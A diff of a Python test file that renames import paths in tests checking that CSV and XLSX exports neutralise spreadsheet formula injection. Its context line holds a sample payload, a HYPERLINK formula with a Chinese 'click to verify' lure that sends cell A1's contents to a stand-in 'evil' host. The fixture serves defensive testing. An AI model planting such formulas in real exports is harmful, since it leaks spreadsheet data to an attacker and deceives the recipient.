@@ -13,7 +13,7 @@ EVIL = '=HYPERLINK("http://evil/?"&A1,"点此核对")'
 
 
 def test_formula_cells_are_neutralised_in_csv_and_xlsx(app, session):
-    from services import orgs
+    from services.organisations import orgs
 
     tree = make_tree(session)
     make_account(session, tree.city, "beijing")
@@ -42,7 +42,7 @@ def test_formula_cells_are_neutralised_in_csv_and_xlsx(app, session):
 
 
 def test_tabs_and_carriage_returns_are_neutralised_too():
-    from services.exports import neutralise
+    from services.reporting.exports import neutralise
 
     assert neutralise("\t=1") == "'\t=1" and neutralise("\r=1") == "'\r=1"
     assert neutralise("东城区") == "东城区" and neutralise(-1.5) == -1.5
